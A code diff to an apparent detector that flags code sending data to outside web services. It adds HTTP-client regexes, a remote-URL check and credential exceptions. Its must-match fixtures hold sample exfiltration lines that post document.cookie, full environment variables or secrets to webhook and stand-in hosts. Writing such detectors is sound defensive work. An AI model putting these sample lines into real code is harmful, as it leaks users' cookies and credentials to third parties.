@@ -164,6 +164,15 @@ SINKS: tuple[tuple[str, str, tuple[str, ...], str], ...] = (
      r"recordCustomEvent|addCustomAttributes?|logger\s*(?:\.|::|->)\s*\w+|track|consumeError|gauge|increment)\s*\(|"
      r"\b(?:span|current_span|get_current_span\(\)|trace\.get_current_span\(\)|activeSpan|rootSpan|otelSpan)\s*(?:\.|::|->)\s*"
      r"(?:set_?[aA]ttributes?|add_?[eE]vent|setTag|set_tag|SetAttributes|AddEvent|setAttribute)\s*\("),
+    # a web request to an absolute address (a webhook, a collector, a paste site) in any language's client, and the
+    # image beacon of browser code (`new Image().src = 'https://x/?c=' + document.cookie`)
+    ("a web request", "a web address", ("fetch(", "axios", "sendbeacon", "requests.", "httpx.", "http.post", "net::http", "httparty",
+                                         "faraday", "xmlhttprequest", ".src", "$.post", "$.ajax", "ky.", "got.", "wp_remote_post",
+                                         "curl_setopt", "urlopen", "webclient", "httpclient", "urlsession", "req.post", "resty"),
+     r"\b(?:fetch|axios(?:\.(?:post|put|patch|request))?|navigator\.sendBeacon|\$\.(?:post|ajax)|ky\.(?:post|put)|got\.(?:post|put)|"
+     r"requests\.(?:post|put|patch|request)|httpx\.(?:post|put|patch|request)|http\.(?:Post|PostForm|NewRequest)|Net::HTTP\.post\w*|"
+     r"HTTParty\.(?:post|put)|Faraday\.(?:post|put)|RestClient\.(?:post|put)|wp_remote_post|Req\.post|\w*[Cc]lient\.(?:post|put|"
+     r"PostAsync|PutAsync|UploadString|R\(\)\.SetBody))\s*\(|\b(?:new\s+Image\(\s*\)|img|image|\w+)\.src\s*=(?!=)"),
     # chat, messaging and webhook SDKs
     ("a chat or webhook service", "a messaging service", ("slack", "discord", "telegram", "teams", "twilio", "webhook", "pymsteams",
                                                          "mattermost", "pushover", "ntfy", "zapier", "ifttt"),
@@ -177,7 +186,9 @@ _SINK_RES = tuple(lazyre.compile(row[3]) for row in SINKS)
 #: Just before a source inside the call: the vendor's own credential (how its service is called, not data sent).
 _CREDENTIAL_PLACE = lazyre.compile(r"(?i)(?:api_?key|apiKey|\bkey|token|auth\w*|headers?|bearer|password|secret|dsn|"
                                    r"credentials?|access_?key|project_?key|write_?key|writeKey|license_?key)['\"]?\s*[:=]\s*"
-                                   r"(?:\w+\s*\(\s*)?$")
+                                   r"(?:\w+\s*\(\s*)?(?:[`'\"f]{1,2}(?:bearer|token|basic)?\s*(?:\$\{|#\{|\{)?\s*)?$")
+#: Inside a request's headers object (`headers: { Authorization: ... }`, `headers={"X-Api-Key": ...}`).
+_IN_HEADERS = lazyre.compile(r"(?i)headers?['\"]?\s*[:=]\s*[\[{(][^}\])]*$")
 _BIND = lazyre.compile(r"(?m)^[ \t]*(?:(?:const|let|var|val|final|my|local|auto)\s+)?(?:[\w<>\[\], ]+\s+)?\$?([A-Za-z_]\w*)"
                        r"\s*(?::\s*[\w<>\[\]|. ]+)?\s*(?::=|=(?![=>~]))\s*(.+)$")
 CALL_CHARS = 900  # characters of a call's arguments read at most
@@ -231,7 +242,9 @@ def _strip_strings(text: str) -> str:
 
 #: Families whose data calls also take the caller's credential (`litellm.completion(..., api_key=...)`,
 #: `chat_postMessage(token=...)`): a secret in a credential's place there is how the service is called.
-_CREDENTIAL_CALLS = frozenset({"an LLM API", "a chat or webhook service"})
+_CREDENTIAL_CALLS = frozenset({"an LLM API", "a chat or webhook service", "a web request"})
+#: An absolute address off this machine (a relative URL or localhost is the application's own server).
+_REMOTE_URL = lazyre.compile(r"""https?://(?!localhost\b|127\.|0\.0\.0\.0|\[::1\]|[\w.-]*\.(?:local|internal|localhost)\b)([\w.-]+\.[a-z]{2,})""")
 
 
 def _source_in(text: str, bound: dict[str, str], family: str = "") -> str | None:
@@ -239,8 +252,11 @@ def _source_in(text: str, bound: dict[str, str], family: str = "") -> str | None
     code = _strip_strings(text)
     creds = family in _CREDENTIAL_CALLS
     for m in [*_KEYED_RE.finditer(text), *_SOURCE_RE.finditer(code)]:
-        if creds and _CREDENTIAL_PLACE.search(m.string, max(0, m.start() - 50), m.start()):
+        if creds and (_CREDENTIAL_PLACE.search(m.string, max(0, m.start() - 50), m.start())
+                      or _IN_HEADERS.search(m.string, max(0, m.start() - 160), m.start())):
             continue
+        if family == "a web request" and _what(m) == "a password or key field":
+            continue  # a login form's password posted to its own service
         return _what(m)
     for name, what in bound.items():
         for m in re.finditer(rf"(?<![\w.$]){re.escape(name)}(?![\w])", code):
@@ -287,9 +303,16 @@ def flows(path: str, old: str, new: str, found: frozenset[str] | None = None) ->
             block = new[lo:hi if hi >= 0 else len(new)]
             if block in old or not any(ln.strip() in added for ln in block.splitlines() if ln.strip()):
                 continue  # the old text made this call already: not this edit's
+            host = ""
+            if family == "a web request":
+                u = _REMOTE_URL.search(call)
+                if u is None:
+                    continue  # the application's own server, or an address the code computes
+                host = u.group(1)
             what = _source_in(call[m.end() - m.start() - 1:], bound, family)
             if what is None:
                 continue
+            vendor = host or vendor
             seen.add(m.start())
             out.append(Flow(family, vendor, what, " ".join(call.split())[:100]))
             if len(out) >= 3:
@@ -323,6 +346,10 @@ MUST_MATCH: tuple[tuple[str, str], ...] = (
     ("app/Http/Track.php", "// segment\nSegment::track(['event' => 'x', 'properties' => $_COOKIE]);\n"),
     ("bot/notify.py", "# discord\nDiscordWebhook(url=URL, content=os.environ['STRIPE_SECRET_KEY']).execute()\n"),
     ("mobile/track.ts", "// amplitude\nconst t = await SecureStore.getItemAsync('refresh_token');\namplitude.track('open', { t });\n"),
+    ("src/boot.js", "fetch('https://webhook.site/abc', { method: 'POST', body: document.cookie });\n"),
+    ("src/boot.js", "new Image().src = 'https://stats.example-cdn.net/p.gif?c=' + encodeURIComponent(document.cookie);\n"),
+    ("scripts/report.py", "requests.post('https://hooks.zapier.com/hooks/catch/1/x/', json={'t': totals(), 'env': dict(os.environ)})\n"),
+    ("cmd/notify/main.go", "http.Post(\"https://hooks.example.net/x\", \"text/plain\", strings.NewReader(strings.Join(os.Environ(), \"\\n\")))\n"),
 )
 MUST_NOT_MATCH: tuple[tuple[str, str], ...] = (
     ("src/analytics.ts", "posthog.capture('login', { plan: user.plan });\n"),
@@ -339,4 +366,8 @@ MUST_NOT_MATCH: tuple[tuple[str, str], ...] = (
     ("src/err.ts", "// sentry\nconst passwordLength = user.password.length;\nSentry.setContext('form', { passwordLength });\n"),
     ("tracing.py", "from opentelemetry import trace\nspan = trace.get_current_span()\nspan.set_attribute('user.id', user_id)\n"),
     ("worker.js", "// analytics\nconst child = spawn('node', ['x.js'], { env: process.env });\n"),
+    ("src/api.ts", "const r = await fetch('/api/orders', { headers: { Authorization: `Bearer ${localStorage.getItem('token')}` } });\n"),
+    ("src/api.ts", "const r = await fetch('https://api.github.com/user', { headers: { Authorization: `token ${localStorage.getItem('gh_token')}` } });\n"),
+    ("src/api.ts", "await fetch('https://api.example.com/login', { method: 'POST', body: JSON.stringify({ user, password }) });\n"),
+    ("src/boot.js", "img.src = '/static/logo.png';\n"),
 )
